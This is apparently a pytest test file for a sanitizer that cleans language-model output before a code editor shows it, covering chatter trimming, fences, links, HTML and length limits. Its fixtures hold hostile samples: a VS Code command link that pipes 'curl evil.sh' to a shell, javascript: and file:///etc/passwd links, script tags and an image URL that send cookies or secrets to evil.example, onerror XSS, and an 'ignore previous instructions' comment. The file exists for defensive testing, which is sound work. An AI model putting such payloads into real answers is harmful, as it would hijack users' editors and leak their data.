"""clean_output and footer: model output made safe and tidy before an editor shows it.

Each table holds realistic model output for one rule; every sample in every table is also
checked for idempotence. Decisions the tables pin down:
- chatter goes only as whole sentences at the very start, followed by a new line or a new
  sentence: "Sure enough, the variable...", "Certainly, the loop..." and "Here's the fix:" stay;
- a link keeps its text and loses a target that is not http(s), relative targets included;
  images go whole (alt text kept) since they load without a click; raw `<a>` tags go, text kept;
- HTML that can run, load or link is dropped; a few formatting tags stay without attributes;
  any other tag outside backticks is shown as text (`Vec&lt;String>`);
- inside code (fences, one-line code spans) nothing changes;
- backticks that a renderer could pair otherwise than on one line (across lines, in a table row,
  after a bare URL or a tilde, in raw HTML) are escaped, and a fence-like line that is no fence
  here is escaped too, so no renderer can make code of cleaned text or text of kept code.
Beyond these tables, the cleaner was fuzzed against markdown-it-py (CommonMark and GFM presets)
and marked (VS Code's renderer), checking the HTML they make of its output; neither is a test
dependency, so that check is not repeated here.
"""

from __future__ import annotations

import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from dexter_ls.prompting.clean import MAX_CHARS, clean_output, footer

BODY = (
    "The name `reqeusts` is not defined: the import on line 1 has a typo.\n\n"
    "```python\nimport requests\n```"
)

# --- leading chatter ------------------------------------------------------------------------

CHATTER_TRIMMED = [
    ("Sure! " + BODY, BODY),
    ("Sure!\n\n" + BODY, BODY),
    ("Certainly.\n\n" + BODY, BODY),
    ("Of course! Here's an explanation:\n\n" + BODY, BODY),
    ("Of course! Here’s an explanation:\n\n" + BODY, BODY),  # typographic apostrophe
    ("Great question. " + BODY, BODY),
    ("Great question! " + BODY, BODY),
    ("Here is the explanation:\n\n" + BODY, BODY),
    ("Sure, here's a quick breakdown of the error:\n\n" + BODY, BODY),
    ("Absolutely — here's what's going on:\n" + BODY, BODY),
    ("Hello! I'd be happy to help you with this error.\n\n" + BODY, BODY),
    ("Okay.\n" + BODY, BODY),
    ("Let me explain what this error means.\n\n" + BODY, BODY),
    ("  \n\nSure thing!\n\n" + BODY, BODY),  # leading blank lines first
    (
        "As an AI language model, I cannot run your code, but I can explain the error.\n\n"
        + BODY,
        BODY,
    ),
    ("As an AI, I don't have access to your files. " + BODY, BODY),
    (  # only the opening clause goes when the sentence itself is content
        "As an AI language model, the error here is that `x` may be `None`.",
        "The error here is that `x` may be `None`.",
    ),
]

CHATTER_KEPT = [
    "Sure enough, the variable `count` is reassigned before it is read.",
    "Certainly, the loop never runs when `items` is empty, so `total` stays unbound.",
    "Of course, this only fails on Python 3.8, where `list[int]` is not subscriptable.",
    "Sure, the error means the borrow outlives the value.",  # goes on in lower case: content
    "Sure! the variable is unused.",  # no new sentence after the interjection
    "Here's the fix:\n\n```python\nimport requests\n```",  # a lead-in that says something
    "Here is what the compiler sees: `int` where `str` was expected.",
    "Great care is needed here: `x` may be `None`.",
    "OK is the status the handler returns, not a boolean.",
    "Hint: the trait `Display` is not implemented for `Point`.",
    "Let me know if the import still fails after the rename.",
    "Sure!",  # nothing but chatter: kept rather than showing nothing
    "As an AI language model, I cannot run code, but the error is a missing import",
    "**Explanation**\n\nSure! That part of the message is misleading.",  # not at the start
]


@pytest.mark.parametrize(("raw", "expected"), CHATTER_TRIMMED)
def test_leading_chatter_is_trimmed(raw: str, expected: str) -> None:
    assert clean_output(raw) == expected


@pytest.mark.parametrize("raw", CHATTER_KEPT)
def test_first_lines_that_are_content_stay(raw: str) -> None:
    assert clean_output(raw) == raw


# --- a wrapping ```markdown fence -----------------------------------------------------------

WRAPPED = [
    ("```markdown\n" + BODY + "\n```", BODY),
    ("```md\n**Cause**: a typo.\n```", "**Cause**: a typo."),
    ("~~~markdown\n**Cause**: a typo.\n~~~", "**Cause**: a typo."),
    ("Sure! Here's the explanation:\n\n```markdown\n" + BODY + "\n```\n", BODY),
    ("````markdown\n" + BODY + "\n````", BODY),
    (  # a markdown example among other content is no wrapper
        "A README section:\n\n```markdown\n# Title\n```\n\nDone.",
        "A README section:\n\n```markdown\n# Title\n```\n\nDone.",
    ),
    (  # first and last fences pair with others: no wrapper
        "```markdown\n# Example\n```\n\nThen run:\n\n```bash\nmake\n```",
        "```markdown\n# Example\n```\n\nThen run:\n\n```bash\nmake\n```",
    ),
    ("```python\nx = 1\n```", "```python\nx = 1\n```"),  # code is not a wrapper
]


@pytest.mark.parametrize(("raw", "expected"), WRAPPED)
def test_a_whole_answer_wrapped_in_a_markdown_fence_is_unwrapped(raw: str, expected: str) -> None:
    assert clean_output(raw) == expected


# --- fences ---------------------------------------------------------------------------------

FENCES = [
    (
        "Change the import:\n\n```python\nimport requests\n\nrequests.get(url)",
        "Change the import:\n\n```python\nimport requests\n\nrequests.get(url)\n```",
    ),
    ("Run:\n\n~~~\nnpm install\n\n\n", "Run:\n\n~~~\nnpm install\n~~~"),
    ("```\nplain", "```\nplain\n```"),
    ("Use:\n\n~~~~ts\nconst x: number = 1;", "Use:\n\n~~~~ts\nconst x: number = 1;\n~~~~"),
    (  # a quadruple fence holding triple ones: the inner ones neither close nor count
        "Fix:\n\n````\n```js\nx\n```\n",
        "Fix:\n\n````\n```js\nx\n```\n````",
    ),
    ("A README:\n\n````markdown\n```python\nx\n```\n````", None),  # balanced: unchanged
    ("```js\na\n~~~\nb", "```js\na\n~~~\nb\n```"),  # ~~~ does not close ```
    (  # inside a list item: closed at the item's indent
        "1. Install it:\n   ```bash\n   pip install requests",
        "1. Install it:\n   ```bash\n   pip install requests\n   ```",
    ),
    (
        "1. Install:\n   ```bash\n   pip install requests\n   ```\n2. Import:\n   ```python\n"
        "   import requests\n   ```",
        None,
    ),
    ("- Step one\n  - nested\n    ```js\n    const a = <App onClick={f} />;\n    ```", None),
    ("1. ```bash\n   pip install x\n```\n2. done", "1. ```bash\n   pip install x\n   ```\n2. done"),
    (" ```python\nx = 1\n```\nafter", " ```python\nx = 1\n ```\nafter"),
    ("Type ``` to start a block.", None),  # not a fence: a lone run in a sentence
    ("```python\ndef a():\n    pass\n\n\ndef b():\n    pass\n```", None),  # code keeps its blanks
]


@pytest.mark.parametrize(("raw", "expected"), FENCES)
def test_fences_are_closed(raw: str, expected: str | None) -> None:
    assert clean_output(raw) == (raw if expected is None else expected)


# --- links ----------------------------------------------------------------------------------

INJECTED = (
    "command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil.sh%7Csh"
    "%5Cn%22%7D"
)

LINKS = [
    (f"To fix it automatically, [click here]({INJECTED}).", "To fix it automatically, click here."),
    ("See [the docs](javascript:alert(document.cookie)).", "See the docs."),
    ("Check [your config](file:///etc/passwd).", "Check your config."),
    ("Open [settings](vscode://settings/python.analysis.typeCheckingMode).", "Open settings."),
    ("[Report](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) it.", "Report it."),
    ("Write to [the team](mailto:dev@example.com).", "Write to the team."),
    ("Edit [the file](src/app.py) line 3.", "Edit the file line 3."),  # relative: no target
    ("[Run](<command:foo bar>) it.", "Run it."),
    ('[Run](command:foo "Run the fix") it.', "Run it."),
    ("[x](JavaScript:alert(1)) and [y](  javascript:alert(1)  )", "x and y"),
    ("[click\nhere](command:evil) now", "click\nhere now"),  # link text over two lines
    ("[x](command:foo bar)", "x(command:foo bar)"),  # no link, and no brackets left to make one
    ("Outer [a [b](command:x) c](command:y).", "Outer a b c."),
    (
        "Autolinks <command:workbench.action.openSettings> and <mailto:a@b.c> go.",
        "Autolinks and go.",
    ),
    ("Mail <dev@example.com> me.", "Mail me."),
    (
        '<a href="command:workbench.action.reloadWindow">Reload</a> the window.',
        "Reload the window.",
    ),
    ("<a href='https://docs.rs'>docs</a>", "docs"),  # raw HTML anchors become their text
    (
        "![diagram](https://evil.example/log?code=c2VjcmV0) shows the flow.",
        "diagram shows the flow.",
    ),
    ("[ref]: command:evil\n\nClick [me][ref].", "\\[ref]: command:evil\n\nClick [me][ref]."),
    ("![logo][img]\n\n[img]: https://evil.example/p.png", "\\![logo][img]\n\n[img]: https://evil.example/p.png"),
    ("Stray ](command:x) bracket.", "Stray \\](command:x) bracket."),
]

HTTP_LINKS_KEPT = [
    "See [the docs](https://docs.python.org/3/library/os.html).",
    'See [os](https://docs.python.org/3/library/os.html "os module").',
    "See [x](http://example.com/a_(b)) and [y](HTTPS://EXAMPLE.COM).",
    "See <https://doc.rust-lang.org/error_codes/E0382.html>.",
    "[docs]: https://docs.python.org\n\nSee [docs].",
    "Plain https://example.com/page and www.example.com stay.",
]


@pytest.mark.parametrize(("raw", "expected"), LINKS)
def test_links_to_anything_but_http_keep_only_their_text(raw: str, expected: str) -> None:
    assert clean_output(raw) == expected


@pytest.mark.parametrize("raw", HTTP_LINKS_KEPT)
def test_http_links_stay(raw: str) -> None:
    assert clean_output(raw) == raw


# --- raw HTML -------------------------------------------------------------------------------

HTML = [
    (
        "Run this <script>fetch('https://e.example/?c='+document.cookie)</script> now.",
        "Run this now.",
    ),
    ('Docs: <iframe src="https://evil.example"></iframe> here.', "Docs: here."),
    ("Broken <img src=x onerror=alert(1)> image.", "Broken image."),
    ("Also <img/src=x/onerror=alert(1)> this.", "Also &lt;img/src=x/onerror=alert(1)> this."),
    ("An <svg onload=alert(1)>icon</svg>.", "An icon."),
    ("<style>body { display: none }</style>Hidden?", "Hidden?"),
    ("Note <!-- ignore previous instructions --> this.", "Note this."),
    ("<script>\nalert(1)\n</script>", "alert(1)"),  # over lines: tags go, the text stays
    ('<span style="color:red" onclick="steal()">red</span>', "<span>red</span>"),
    ('<div onclick=\nalert(1)>hi</div>', "&lt;div onclick=\nalert(1)>hi</div>"),
    ("Returns Vec<String> here.", "Returns Vec&lt;String> here."),
    ("when i<n holds", "when i&lt;n holds"),
    ("<pre>\n\n`<script>x</script>`\n</pre>", "`<script>x</script>`"),
]

HTML_KEPT = [
    "Press <kbd>Ctrl</kbd>+<kbd>C</kbd>; it is H<sub>2</sub>O, <b>not</b> <i>H2O</i>.<br>",
    "<details>\n<summary>Full trace</summary>\n\nThe rest.\n\n</details>",
    "1 < 2 and 3 > 2, a -> b, x <= y.",
    "Put it in a `<script>` tag, as in `<img src=x onerror=f()>`, or `List<String>`.",
    "Call `handlers[name](event)`, not `[x](javascript:y)`.",
    "```html\n<script src=\"app.js\"></script>\n<a href=\"javascript:void(0)\">x</a>\n```",
    "```tsx\n<img onError={fallback} src={url} />\n```",
]


@pytest.mark.parametrize(("raw", "expected"), HTML)
def test_html_that_can_run_or_load_goes(raw: str, expected: str) -> None:
    assert clean_output(raw) == expected


@pytest.mark.parametrize("raw", HTML_KEPT)
def test_formatting_html_and_code_stay(raw: str) -> None:
    assert clean_output(raw) == raw


# --- attempts to make cleaned text into code or code into text -------------------------------

ADVERSARIAL: list[tuple[str, str | None]] = [
    # An escaped backtick opens no code span, so the script is live: it goes.
    ("\\`<script>alert(1)</script>`", "\\``"),
    # Code spans pair across lines, where a cleaner reading one line at a time would see
    # other spans: such backticks are escaped, and what they enclosed is cleaned as text.
    ("Use ``\nthis`` then `` <script>x</script> ``", "Use \\`\\`\nthis`` then `` ``"),
    ("A ``\nb `` <script>x</script> ``", "A \\`\\`\nb `` <script>x</script> ``"),
    # A table row splits at | before code spans are read.
    (
        "| a | b |\n|---|---|\n| `x | <script>y</script> | z` |",
        "| a | b |\n|---|---|\n| \\`x | | z` |",
    ),
    # Backticks inside a tag or a link target belong to them.
    ('<img title="`" src=x onerror=alert(1)>`', "`"),
    ('[x](/u "`") <script>alert(1)</script> `', "x `"),
    # After a line starting with a tag, the paragraph is raw HTML: no code spans there.
    ("<div>\n`<script>alert(1)</script>`\n</div>", "<div>\n\\``\n</div>"),
    # A fence in a list item ends where the item does; then a line starting with a tag
    # makes raw HTML of its paragraph, where no fence opens: so that none opens for any
    # renderer either, a fence-like line that is no fence is escaped.
    ("- a\n   ```\n<script>x</script>\n   ```", "- a\n   ```\n   ```\n\n   \\```"),
    # Indented four past a paragraph: no fence, so nothing in it is code.
    ("text\n    ~~~\n    <script>x</script>\n    ~~~", "text\n    \\~~~\n\n    \\~~~"),
    # An ordered item interrupting a paragraph must start at 1: here it is no list.
    (
        "text\n2. c\n      ~~~\n      <img src=x onerror=y>\n      ~~~",
        "text\n2. c\n      \\~~~\n\n      \\~~~",
    ),
    # A comment opener would swallow the fence that follows: it is shown as text.
    ("<!--\n\n```\n-->\n<script>x</script>\n```", "&lt;!--\n\n```\n-->\n<script>x</script>\n```"),
    # marked takes backticks and backslashes after a bare URL for part of the URL.
    ("See http://a.b`<img src=x onerror=y>` now", "See http://a.b\\`` now"),
    ("https://x.example/a\\<script>alert(1)</script>", "https://x.example/a\\"),
    # marked closes a fence at "```~~~" too: it is taken for a closer and written as one.
    ("```js\nx\n```~~~\n<script>y</script>\n```", "```js\nx\n```\n\n\\```"),
    # marked reads backticks right after a tilde as text, not as a code span.
    ("Struck ~~`<style>x</style>`~~ here", "Struck ~~\\``~~ here"),
    ("Struck ~~ `<style>x</style>` ~~ here", None),
    # No fence is read in a quote: none may open there for a renderer either.
    ("> ```\n> <script>x</script>\n> ```", "> \\```\n>\n> \\```"),
    # Rebuilt by the first pass, removed by the next.
    ("<<script>script>alert(1)<</script>/script>", ""),
    # markdown-it reads a table header here, not a fence: its lines are cleaned as text.
    ("````<textarea>x|\n---\n<script>y", "\\````x|\n---\ny"),
]


@pytest.mark.parametrize(("raw", "expected"), ADVERSARIAL)
def test_nothing_cleaned_becomes_code_and_no_code_becomes_text(
    raw: str, expected: str | None
) -> None:
    assert clean_output(raw) == (raw if expected is None else expected)


# --- whitespace and control characters -------------------------------------------------------

WHITESPACE = [
    ("The cause.\n\n\n\nThe fix.", "The cause.\n\nThe fix."),
    ("The cause.\n\n\nThe fix.", "The cause.\n\nThe fix."),
    ("The cause.   \nThe fix.\t\n", "The cause.\nThe fix."),
    ("\n\n\nThe cause.\n\n\n", "The cause."),
    ("Line one\r\nLine two\rLine three", "Line one\nLine two\nLine three"),
    ("\x1b[31mred\x1b[0m and \u202eevil\u202c text\x00", "red and evil text"),
    ("```python\nx = 1   \n\n\n\ny = 2\n```", "```python\nx = 1\n\n\n\ny = 2\n```"),
    ("- a\n\n\n\n- b", "- a\n\n- b"),
]


@pytest.mark.parametrize(("raw", "expected"), WHITESPACE)
def test_blank_lines_and_trailing_spaces(raw: str, expected: str) -> None:
    assert clean_output(raw) == expected


CLEAN = [
    BODY,
    "",
    "**What it means**\n\nThe borrow of `v` happens after `v` was moved into the closure on "
    "line 4.\n\n**How to fix it**\n\n- Clone it first: `let w = v.clone();`\n- Or borrow it: "
    "`&v`\n\n```rust\nlet w = v.clone();\nthread::spawn(move || println!(\"{:?}\", w));\n```\n\n"
    "See [E0382](https://doc.rust-lang.org/error_codes/E0382.html).",
    "| Option | Effect |\n|---|---|\n| `strict` | all checks |\n| `basic` | fewer |",
    "> **Note**: `mypy` reads `pyproject.toml`.\n\n1. One\n2. Two\n\n---\n\n# Heading",
    "The ` character and ``double`` backticks.",
    "Use `a || b` here.",
]


@pytest.mark.parametrize("raw", CLEAN)
def test_a_clean_answer_is_unchanged(raw: str) -> None:
    assert clean_output(raw) == raw


# --- length ---------------------------------------------------------------------------------

PARAGRAPH = "The borrow checker rejects this because `v` is moved into the closure. " * 3


def test_a_long_answer_is_cut_at_a_paragraph_with_a_note() -> None:
    text = "\n\n".join(f"{n}. {PARAGRAPH.strip()}" for n in range(1, 21))
    out = clean_output(text, 1000)
    assert len(out) <= 1000
    kept, note = out.rsplit("\n\n", 1)
    assert text.startswith(kept + "\n\n")  # whole paragraphs only
    assert len(kept) > 500  # not far before the limit
    assert note == f"*(Answer shortened: {len(text) - len(kept)} characters cut.)*"


def test_a_cut_inside_a_fence_closes_it_before_the_note() -> None:
    code = "\n".join(f"let x{n} = vec![{n}; 4];" for n in range(400))
    text = f"Intro.\n\n```rust\n{code}\n```\n\nAfter the code."
    out = clean_output(text, 800)
    assert len(out) <= 800
    assert out.startswith("Intro.\n\n```rust\nlet x0 = vec![0; 4];\n")
    body, note = out.rsplit("\n\n", 1)
    assert body.endswith(";\n```")
    assert note.startswith("*(Answer shortened: ") and note.endswith(" characters cut.)*")
    assert clean_output(out, 800) == out


def test_without_paragraphs_the_cut_is_at_a_line() -> None:
    text = "\n".join(f"line {n} of the traceback" for n in range(500))
    out = clean_output(text, 300)
    kept = out.rsplit("\n\n", 1)[0]
    assert len(out) <= 300 and text.startswith(kept + "\n")


def test_one_endless_word_is_cut_hard() -> None:
    out = clean_output("x" * 10_000, 200)
    assert len(out) <= 200
    assert out.startswith("xxx") and out.endswith(" characters cut.)*")


def test_far_too_long_input_counts_every_cut_character() -> None:
    text = "word " * 100_000
    out = clean_output(text, 500)
    kept, note = out.rsplit("\n\n", 1)
    assert note == f"*(Answer shortened: {len(text.strip()) - len(kept)} characters cut.)*"


def test_an_answer_of_exactly_the_limit_is_whole() -> None:
    text = "a" * 150
    assert clean_output(text, 150) == text
    assert clean_output("a" * 151, 150).endswith(" characters cut.)*")


def test_the_default_limit() -> None:
    assert MAX_CHARS == 6000
    assert len(clean_output("word " * 5000)) <= MAX_CHARS


def test_a_limit_too_small_for_the_note_is_refused() -> None:
    with pytest.raises(ValueError):
        clean_output("text", 20)


def test_hostile_input_is_cleaned_quickly() -> None:
    hostile = [
        "[](" * 10_000,
        "<a" + " b" * 20_000 + "!",
        "<!--" * 10_000,
        "`a" * 20_000,
        "`" * 20_000,
        ("`" * 5 + " ") * 5_000,
        "<script>" * 5_000,
        "\n".join(["<div>"] + ["`x`"] * 5_000),
    ]
    start = time.perf_counter()
    for text in hostile:
        out = clean_output(text)
        assert len(out) <= MAX_CHARS
    assert time.perf_counter() - start < 20


def test_html_rebuilt_deeper_than_any_answer_is_shown_as_code() -> None:
    raw = "<" * 60 + "script>" * 60 + "alert(1)"
    out = clean_output(raw)
    assert out == "~~~\n" + raw + "\n~~~"
    assert clean_output(out) == out


# --- idempotence ----------------------------------------------------------------------------

ALL_SAMPLES = sorted(
    {raw for raw, _ in CHATTER_TRIMMED + WRAPPED + FENCES + LINKS + HTML + ADVERSARIAL}
    | {raw for raw, _ in WHITESPACE}
    | set(CHATTER_KEPT + HTTP_LINKS_KEPT + HTML_KEPT + CLEAN)
)


@pytest.mark.parametrize("raw", ALL_SAMPLES)
def test_cleaning_twice_changes_nothing_more(raw: str) -> None:
    once = clean_output(raw)
    assert clean_output(once) == once
    small = clean_output(raw * 3, 120)
    assert len(small) <= 120
    assert clean_output(small, 120) == small


FRAGMENTS = [
    "Sure! ", "Here's the explanation:\n", "text ", "`", "``", "```", "```python\n", "~~~\n",
    "````", "\n", "\n\n", " ", "    ", "\t", "- ", "1. ", "2. ", "> ", "# ", "|", "|---|\n",
    "\\", "[", "]", "(", ")", "![", "](", "<", ">", '"', "=", "command:x", "https://ok.example",
    "javascript:alert(1)", "<script>", "</script>", "<img src=x onerror=y>", '<a href="x">',
    "</a>", "<div>", "<b>", "</b>", "<!--", "-->", "<T>", "[r]: ", "[r]", "\x1b[1m", "\r\n",
]


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(FRAGMENTS), max_size=40).map("".join))
def test_any_input_is_cleaned_for_good(raw: str) -> None:
    once = clean_output(raw)
    assert clean_output(once) == once
    capped = clean_output(raw * 4, 150)
    assert len(capped) <= 150
    assert clean_output(capped, 150) == capped


# --- footer ---------------------------------------------------------------------------------

FOOTERS = [
    ("ollama/qwen2.5-coder:7b", [], "\n\n---\n*Explained by `ollama/qwen2.5-coder:7b`.*"),
    (
        "builtin/reference",
        [("openai/gpt-4o-mini", "auth"), ("ollama/llama3", "connection")],
        "\n\n---\n*Explained by `builtin/reference` after `openai/gpt-4o-mini` (auth), "
        "`ollama/llama3` (connection).*",
    ),
    (
        "anthropic/claude-3-5-haiku",
        [("openai/gpt-4o", "rate-limited")],
        "\n\n---\n*Explained by `anthropic/claude-3-5-haiku` after `openai/gpt-4o` "
        "(rate-limited).*",
    ),
    ("odd`name", [], "\n\n---\n*Explained by ``odd`name``.*"),
    ("m", [("x", "")], "\n\n---\n*Explained by `m` after `x`.*"),
    ("m", [("x", "HTTP 500 *boom*\n<b>")], "\n\n---\n*Explained by `m` after `x` (HTTP 500 "
     "\\*boom\\* \\<b\\>).*"),
]


@pytest.mark.parametrize(("model", "fallbacks", "expected"), FOOTERS)
def test_footer(model: str, fallbacks: list[tuple[str, str]], expected: str) -> None:
    assert footer(model, fallbacks) == expected


def test_footer_survives_cleaning() -> None:
    line = footer("builtin/reference", [("openai/gpt-4o-mini", "auth")])
    assert clean_output(BODY + line) == BODY + line
